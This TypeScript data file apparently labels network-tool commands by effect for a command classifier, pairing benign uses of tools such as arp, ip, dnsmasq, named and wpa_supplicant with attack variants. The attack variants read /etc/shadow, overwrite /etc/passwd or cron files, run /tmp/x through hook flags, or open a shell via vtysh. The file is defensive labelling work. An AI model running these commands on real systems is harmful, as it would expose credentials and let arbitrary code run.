import type { ExampleTable } from './example.ts'

export const networkConfiguration: ExampleTable = {
  arp: {
    use: 'arp -n → look-around arp',
    attack: 'arp -v -f /etc/shadow → read /etc/shadow; look-around arp',
  },
  bird: {
    use: 'bird -c bird.conf → read bird.conf',
    attack: 'bird -D /etc/cron.d/job → write /etc/cron.d/job',
  },
  bridge: {
    use: 'bridge -b commands.txt → read commands.txt',
    attack: 'bridge -b /etc/shadow → read /etc/shadow',
  },
  dcb: {
    use: 'dcb -b commands.txt → read commands.txt',
    attack: 'dcb -b /etc/shadow → read /etc/shadow',
  },
  devlink: {
    use: 'devlink -b commands.txt → read commands.txt',
    attack: 'devlink -b /etc/shadow → read /etc/shadow',
  },
  ifconfig: { use: 'ifconfig → look-around ifconfig' },
  ifplugd: { use: 'ifplugd -i eth0 → nothing', attack: 'ifplugd -i eth0 -r /tmp/x → run /tmp/x' },
  ifquery: { use: 'ifquery -i interfaces eth0 → read interfaces' },
  ifup: {
    use: 'ifup -i interfaces eth0 → read interfaces',
    attack: 'ifup -i /tmp/interfaces eth0 → run /tmp/interfaces',
  },
  ip: {
    use: 'ip -b commands.txt → read commands.txt',
    attack: 'ip -force -batch /etc/shadow → read /etc/shadow',
  },
  nameif: { use: 'nameif -c mactab → read mactab' },
  netplan: {
    use: 'netplan try --config-file net.yaml → read net.yaml',
    attack: 'netplan try --config-file /etc/shadow → read /etc/shadow',
  },
  nmcli: {
    use: 'nmcli device status → nothing',
    attack: 'nmcli -s connection show Home → privilege nmcli; read secret://nmcli',
  },
  'ovs-vsctl': {
    use: 'ovs-vsctl --db=tcp:switch.example.org:6640 show → send tcp:switch.example.org:6640',
  },
  radvd: {
    use: 'radvd -C radvd.conf → read radvd.conf',
    attack: 'radvd -p /etc/cron.d/job → write /etc/cron.d/job',
  },
  rarp: { use: 'rarp -f ethers → read ethers', attack: 'rarp -f /etc/shadow → read /etc/shadow' },
  rdma: {
    use: 'rdma -b commands.txt → read commands.txt',
    attack: 'rdma -b /etc/shadow → read /etc/shadow',
  },
  route: { use: 'route -n → look-around route' },
  rtmon: {
    use: 'rtmon file rtmon.log → write rtmon.log',
    attack: 'rtmon file /etc/passwd → write /etc/passwd',
  },
  tc: {
    use: 'tc -b commands.txt → read commands.txt',
    attack: 'tc -b /etc/shadow → read /etc/shadow',
  },
  usbip: { use: 'usbip list --local → nothing' },
  'usbip attach': { use: 'usbip attach -r db.example.org -b 1-1 → send db.example.org' },
  usbipd: { use: 'usbipd → listen 3240' },
  vtysh: {
    use: [
      `vtysh -c 'show ip route' → nothing`,
      `printf '! /etc/frr/frr.conf\\nsh run' | vtysh → nothing`,
    ],
    attack: [
      `echo 'start-shell bash' | vtysh → run bash`,
      `vtysh -c 'start-shell bash' → run bash; shell bash`,
      'vtysh -f /etc/shadow → read /etc/shadow',
    ],
  },
  ipset: {
    use: 'ipset restore -f sets.txt → read sets.txt',
    attack: 'ipset restore -f /etc/shadow → read /etc/shadow',
  },
  iptables: { use: 'iptables -L → nothing', attack: 'iptables -L --modprobe=/tmp/x → run /tmp/x' },
  'iptables-restore': {
    use: 'iptables-restore rules.v4 → read rules.v4',
    attack: 'iptables-restore -M /tmp/x rules.v4 → run /tmp/x; read rules.v4',
  },
  'iptables-save': {
    use: 'iptables-save -f rules.v4 → write rules.v4',
    attack: [
      'iptables-save -f /etc/cron.d/job → write /etc/cron.d/job',
      'iptables-save -M /tmp/x → run /tmp/x',
    ],
  },
  knockd: {
    use: 'knockd -c knockd.conf → read knockd.conf',
    attack: 'knockd -c /tmp/knockd.conf → run /tmp/knockd.conf; read /tmp/knockd.conf',
  },
  nft: {
    use: 'nft -c -f rules.nft → read rules.nft',
    attack: 'nft -f /etc/shadow → read /etc/shadow',
    unclear: 'nft flush ruleset → what is let in from then on',
  },
  'avahi-daemon': { use: 'avahi-daemon -f avahi.conf → read avahi.conf' },
  coredns: {
    use: 'coredns -conf Corefile → read Corefile; listen 53',
    attack: 'coredns -conf /etc/shadow → read /etc/shadow; listen 53',
  },
  dhclient: {
    use: 'dhclient -cf dhclient.conf eth0 → read dhclient.conf',
    attack: [
      'dhclient -cf /etc/shadow eth0 → read /etc/shadow',
      'dhclient -sf /tmp/x eth0 → run /tmp/x',
    ],
  },
  dhcpcd: {
    use: 'dhcpcd -f dhcpcd.conf eth0 → read dhcpcd.conf',
    attack: ['dhcpcd -c /tmp/x eth0 → run /tmp/x', 'dhcpcd -f /etc/shadow eth0 → read /etc/shadow'],
  },
  dhcpd: {
    use: 'dhcpd -cf dhcpd.conf eth0 → read dhcpd.conf; listen 67',
    attack: [
      'dhcpd -cf /etc/shadow eth0 → read /etc/shadow; listen 67',
      'dhcpd -lf /etc/cron.d/job eth0 → listen 67; write /etc/cron.d/job',
    ],
  },
  'dnscrypt-proxy': {
    use: 'dnscrypt-proxy -config dnscrypt-proxy.toml → read dnscrypt-proxy.toml; listen 53',
  },
  dnsmasq: {
    use: 'dnsmasq --conf-file=dnsmasq.conf → read dnsmasq.conf; listen',
    attack: [
      'dnsmasq --conf-script=/tmp/x → run /tmp/x; listen',
      'dnsmasq --dhcp-script=/tmp/x → run /tmp/x; listen',
    ],
  },
  'dnssec-signzone': {
    use: 'dnssec-signzone -o example.org -f signed.db zone.db → read zone.db; write signed.db',
    attack: [
      'dnssec-signzone -o example.org /etc/shadow → read /etc/shadow',
      'dnssec-signzone -o example.org -f /etc/cron.d/job zone.db → read zone.db; write /etc/cron.d/job',
    ],
  },
  domainname: { use: 'domainname -F domain.txt → read domain.txt' },
  hostname: { use: 'hostname -F hostname.txt → read hostname.txt' },
  'kea-dhcp4': { use: 'kea-dhcp4 -t kea.conf → read kea.conf' },
  named: {
    use: 'named -c named.conf → read named.conf; listen 53',
    attack: [
      'named -c /etc/shadow → read /etc/shadow; listen 53',
      'named -L /etc/cron.d/job → listen 53; write /etc/cron.d/job',
    ],
  },
  'named-checkconf': {
    use: 'named-checkconf named.conf → read named.conf',
    attack: 'named-checkconf /etc/shadow → read /etc/shadow',
  },
  'named-checkzone': {
    use: 'named-checkzone example.org zone.db → read zone.db',
    attack: [
      'named-checkzone example.org /etc/shadow → read /etc/shadow',
      'named-checkzone -o /etc/cron.d/job example.org zone.db → read zone.db; write /etc/cron.d/job',
    ],
  },
  'named-compilezone': {
    use: 'named-compilezone -o zone.raw example.org zone.db → read zone.db; write zone.raw',
    attack: [
      'named-compilezone -o zone.raw example.org /etc/shadow → read /etc/shadow; write zone.raw',
      'named-compilezone -o /etc/cron.d/job example.org zone.db → read zone.db; write /etc/cron.d/job',
    ],
  },
  nsupdate: {
    use: 'nsupdate -k update.key commands.txt → read commands.txt',
    attack: 'nsupdate /etc/shadow → read /etc/shadow',
  },
  pdnsd: { use: 'pdnsd -c pdnsd.conf → read pdnsd.conf; listen 53' },
  rndc: {
    use: 'rndc -c rndc.conf status → read rndc.conf',
    attack: 'rndc -c /etc/shadow status → read /etc/shadow',
  },
  stubby: { use: 'stubby -C stubby.yml → read stubby.yml; listen 53' },
  udhcpc: { use: 'udhcpc -i eth0 → nothing', attack: 'udhcpc -i eth0 -s /tmp/x → run /tmp/x' },
  unbound: {
    use: 'unbound -c unbound.conf → read unbound.conf; listen 53',
    attack: 'unbound -c /etc/shadow → read /etc/shadow; listen 53',
  },
  'unbound-anchor': {
    use: 'unbound-anchor -a root.key → write root.key',
    attack: 'unbound-anchor -a /etc/passwd → write /etc/passwd',
  },
  'unbound-checkconf': {
    use: 'unbound-checkconf unbound.conf → read unbound.conf',
    attack: 'unbound-checkconf /etc/shadow → read /etc/shadow',
  },
  'unbound-control': {
    use: 'unbound-control -c unbound.conf status → read unbound.conf',
    attack: 'unbound-control -c /etc/shadow status → read /etc/shadow',
  },
  'bluetooth-sendto': {
    use: 'bluetooth-sendto --device=00:11:22:33:44:55 notes.txt → read notes.txt; send 00:11:22:33:44:55',
    attack:
      'bluetooth-sendto --device=00:11:22:33:44:55 /etc/shadow → read /etc/shadow; send 00:11:22:33:44:55',
  },
  bluetoothctl: {
    use: 'bluetoothctl → nothing',
    unclear: 'bluetoothctl discoverable on → who is let in by radio',
  },
  btmon: {
    use: 'btmon -w hci.log → write hci.log',
    attack: 'btmon -w /etc/passwd → write /etc/passwd',
  },
  hostapd: {
    use: 'hostapd hostapd.conf → read hostapd.conf',
    attack: 'hostapd /etc/shadow → read /etc/shadow',
  },
  iwlist: { use: 'iwlist wlan0 scan → look-around iwlist' },
  wpa_cli: { use: 'wpa_cli status → nothing', attack: 'wpa_cli -a /tmp/x → run /tmp/x' },
  wpa_supplicant: {
    use: 'wpa_supplicant -i wlan0 -c wpa.conf -f wpa.log → write wpa.log',
    attack: 'wpa_supplicant -i wlan0 -c wpa.conf -f /etc/cron.d/job → write /etc/cron.d/job',
  },
  ntpd: {
    use: 'ntpd -c ntp.conf → read ntp.conf',
    attack: 'ntpd -l /etc/cron.d/job → write /etc/cron.d/job',
  },
}
